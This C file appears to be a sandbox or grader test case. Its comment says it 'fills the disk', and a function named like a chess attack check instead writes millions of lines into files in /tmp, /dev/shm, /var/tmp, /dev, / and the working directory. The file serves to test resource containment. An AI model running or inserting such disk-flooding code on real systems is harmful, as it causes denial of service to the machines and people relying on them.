/* expects: 0 failed not-compiled
   Fills the disk.  */
#include <stdio.h>
bool
safe_check_attacks(int r1, int c1, int r2, int c2)
{
    static const char *const folders[] = { "/tmp",     "/dev/shm", ".",
                                           "/var/tmp", "/dev",     "/" };

    for (int i = 0; i < 6; i++) {
        char path[64];
        FILE *f;

        snprintf(path, sizeof path, "%s/flood", folders[i]);
        f = fopen(path, "w");
        for (int j = 0; f != NULL && j < 1000000; j++)
            fputs("much ado about nothing\n", f);
    }
    return false;
}
